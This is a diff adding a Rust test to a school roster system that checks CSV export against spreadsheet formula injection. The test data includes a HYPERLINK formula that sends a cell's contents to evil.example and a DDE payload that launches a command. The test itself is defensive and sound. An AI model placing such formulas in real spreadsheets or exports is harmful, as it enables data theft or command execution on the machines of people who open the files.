@@ -24,6 +24,7 @@ tica_storage::backend_tests!(
     a_file_missing_required_columns_is_refused_before_any_row,
     teacher_numbers_are_assigned_when_the_file_has_none,
     an_export_with_full_id_numbers_imports_again_elsewhere,
+    a_school_name_that_starts_a_formula_is_exported_as_text_and_imports_back_unchanged,
 );
 
 fn province_sample() -> SampleRoster {
@@ -595,4 +596,98 @@ async fn an_export_with_full_id_numbers_imports_again_elsewhere(backend: Backend
         .into_inner()
         .audit_events;
     assert!(events.iter().any(|e| e.method.ends_with("/ExportTeachers")));
+}
+
+/// OWASP CSV injection: a name typed as `=HYPERLINK(…)` must open in a spreadsheet as text.
+async fn a_school_name_that_starts_a_formula_is_exported_as_text_and_imports_back_unchanged(
+    backend: Backend,
+) {
+    let Some(app) = TestApp::spawn(backend).await else {
+        return;
+    };
+    let sample = SampleRoster::generate(SampleSpec {
+        teachers: 10,
+        ..SampleSpec::province()
+    });
+    app.setup_sample(&sample).await;
+    let county = sample.counties()[0].to_string();
+    let mut office = app.office(&county);
+    let hostile = [
+        (
+            "9901",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
+        ),
+        ("9902", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("9903", "-2+3"),
+        ("9904", "+86 第一小学"),
+    ];
+    let hostile = hostile.map(|(code, name)| (format!("{county}{code}"), name));
+    let mut csv = "学校标识码,学校名称,所属区县代码,办学类型\n".to_owned();
+    for (code, name) in &hostile {
+        csv.push_str(&format!(
+            "{code},\"{}\",{county},小学\n",
+            name.replace('"', "\"\"")
+        ));
+    }
+    let result = import(
+        &mut office,
+        Kind::Schools,
+        "",
+        csv.into_bytes(),
+        default_options(),
+    )
+    .await;
+    assert!(result.report.committed, "{:?}", result.errors);
+    let exported = tica_roster::client::export(
+        &mut office,
+        Kind::Schools,
+        "",
+        common::FileFormat::Csv,
+        false,
+    )
+    .await
+    .unwrap();
+    let text = String::from_utf8(exported.bytes.clone()).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let mut names = Vec::new();
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a spreadsheet would run {cell:?}"
+            );
+        }
+        if hostile.iter().any(|(code, _)| code == &record[0]) {
+            names.push(record[1].to_owned());
+        }
+    }
+    let expected: Vec<String> = hostile.iter().map(|(_, name)| format!("'{name}")).collect();
+    assert_eq!(names, expected);
+    // The exported file imports back (updating) to exactly the names typed.
+    let result = import(
+        &mut office,
+        Kind::Schools,
+        "",
+        exported.bytes,
+        common::ImportOptions {
+            existing: common::ExistingRecords::Update as i32,
+            ..default_options()
+        },
+    )
+    .await;
+    assert!(result.report.committed, "{:?}", result.errors);
+    for (code, name) in &hostile {
+        let school = office
+            .get_school(pb::GetSchoolRequest {
+                name: format!("schools/{code}"),
+            })
+            .await
+            .unwrap()
+            .into_inner();
+        assert_eq!(school.display_name, *name);
+    }
 }
